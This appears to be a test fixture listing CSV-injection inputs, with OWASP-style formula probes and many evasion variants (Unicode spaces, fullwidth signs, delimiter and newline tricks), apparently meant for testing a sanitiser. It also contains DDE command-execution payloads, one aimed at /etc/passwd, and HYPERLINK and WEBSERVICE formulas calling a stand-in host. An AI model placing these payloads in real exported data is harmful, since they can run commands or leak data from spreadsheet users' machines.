/**
 * What somebody may write to have a table program of the studio's run it (OWASP, CSV injection): formulas, also behind what
 * programs overlook, in other widths, and behind what one of them may take for the end of a cell.
 */
export const hostileCells = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '|calc', '%0A=1+1', '=1+1;=1+1', "=cmd|' /C calc'!A0"],
  ...[
    '=DDE("soffice","/etc/passwd","1")',
    '=HYPERLINK("http://evil.test","x")',
    '=WEBSERVICE("http://evil.test")',
  ],
  ...[
    ' =1+1',
    '\u00A0=1+1',
    '\u3000=1+1',
    '\u200B=1+1',
    '\uFEFF=1+1',
    '\u202E=1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
  ],
  ...[
    '"=1+1"',
    '" =1+1',
    "'=1+1",
    "' =1+1",
    '“=1+1',
    '";=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1,1)',
    '％=1',
  ],
  ...['Ann;=1+1', 'Ann;+1+1', 'Ann; =1+1', 'Ann;"=1+1"', 'Ann";=1+1', 'Ann,=1+1', 'Ann",=1+1', 'Ann\t=1+1'],
  ...['Ann\n=1+1', 'Ann\r=1+1', 'Ann\r\n=1+1', 'Ann"\n=1+1', 'Ann\n\n =1+1', 'Ann; \n"=1+1'],
]
